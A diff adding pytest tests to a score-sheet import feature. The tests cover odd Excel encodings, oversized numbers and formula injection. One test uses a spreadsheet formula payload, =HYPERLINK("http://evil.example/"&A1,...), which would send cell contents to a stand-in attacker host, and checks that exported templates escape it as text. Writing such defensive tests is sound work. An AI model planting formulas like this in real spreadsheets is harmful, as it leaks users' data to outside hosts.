@@ -516,3 +516,80 @@ def test_a_template_of_house_rules_with_a_control_character(client, app):
 
 def test_the_pages_titles(client):
     assert "<title>Import old score sheets · " in client.get("/import/sheet").get_data(as_text=True)
+
+
+# -- files as Excel writes them, and numbers past any hand ------------------------------------
+
+
+def game_1_lines(delimiter: str = ",") -> list[str]:
+    return [delimiter.join(HEADER)] + [delimiter.join(["2024-05-01", *map(str, r), ""]) for r in GAME_1]
+
+
+@pytest.mark.parametrize("encoding, delimiter", [("utf-16", "\t"), ("utf-16-le", "\t"), ("utf-16-be", ",")])
+def test_excels_unicode_text_in_utf16_imports(client, app, encoding, delimiter):
+    raw = "\r\n".join(game_1_lines(delimiter)).encode(encoding)  # "utf-16" writes the byte order mark
+    page = upload(client, raw, name="games.txt")
+    assert problems(page) == [], text_of(page)
+    confirm(client, page)
+    assert finished_totals(app) == {"2024-05-01": {"Ann": 50, "Bob": 70, "Cy": 115}}
+
+
+def test_a_csv_with_carriage_returns_alone_as_csv_macintosh_writes_it(client, app):
+    raw = ("\r".join(game_1_lines()) + "\r").encode("cp1252")
+    page = upload(client, raw, name="games.csv")
+    assert problems(page) == [], text_of(page)
+    confirm(client, page)
+    assert finished_totals(app) == {"2024-05-01": {"Ann": 50, "Bob": 70, "Cy": 115}}
+
+
+@pytest.mark.parametrize("column", ["score", "total"])
+def test_a_score_or_total_of_hundreds_of_digits_is_a_problem_not_an_error(client, app, column):
+    header = HEADER[:-1] + ["Total", "Notes"]
+    rows = [[*r, sum(r[1:])] for r in GAME_1]
+    huge = "9" * 900
+    if column == "score":
+        rows[1][2] = huge
+    else:
+        rows[1][8] = huge
+    lines = [",".join(header)] + [",".join(["2024-05-01", *map(str, r), ""]) for r in rows]
+    before = db_snapshot(app)
+    page = upload(client, csv_bytes(lines), name="games.csv")
+    found = problems(page)
+    if column == "score":
+        assert found == ["Row 3, column D (Round 2): '99999999999999999999…' is far more than any hand is worth"]
+    else:
+        assert found == ["Row 3, column J (Total): Bob's total is written as 9999999999999999999…, "
+                         "but the rounds add up to 70"]
+    assert db_snapshot(app) == before
+
+
+def test_a_cell_of_4301_digits_is_refused_before_any_number_is_read(client, app):
+    lines = game_1_lines()
+    lines[2] = lines[2].replace(",10,", "," + "9" * 4301 + ",", 1)
+    page = upload(client, csv_bytes(lines), name="games.csv")
+    assert "Row 3 has a cell of more than 1,000 characters" in text_of(page)
+
+
+def test_a_float_score_far_past_any_hand_is_a_problem(client, app):
+    rows = [HEADER] + [[datetime(2024, 5, 1), *r, None] for r in GAME_1]
+    rows[2][3] = 1e300
+    assert problems(upload(client, xlsx(rows))) == ["Row 3, column D (Round 2): 1e+300 is far more than any hand is worth"]
+
+
+def test_a_house_rules_name_like_a_formula_is_text_in_the_templates(client, app):
+    with app.app_context():
+        odd = dataclasses.replace(F7, key="house-x", name='=HYPERLINK("http://evil.example/"&A1,"Help")', rounds=(
+            dataclasses.replace(F7.rounds[0], contract="@SUM(1)"), *F7.rounds[1:]))
+        key = import_house_rules(our_family(), odd)[0].key
+    raw = client.get(f"/import/sheet/template/{key}.xlsx").data
+    import zipfile
+    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+        sheets_xml = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets_xml and not any(b"<f>" in x or b"<f " in x for x in sheets_xml)
+    book = load_workbook(io.BytesIO(raw))
+    help_cell = book.worksheets[1]["A1"]
+    assert help_cell.data_type == "s" and help_cell.value.startswith("'=HYPERLINK(")
+    every = [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value]
+    assert not any(str(v)[:1] in "=+-@" for v in every)
+    csv_text = client.get(f"/import/sheet/template/{key}.csv").data.decode("utf-8-sig")
+    assert not any(cell[:1] in "=+-@" for cell in next(iter(__import__("csv").reader(io.StringIO(csv_text)))))
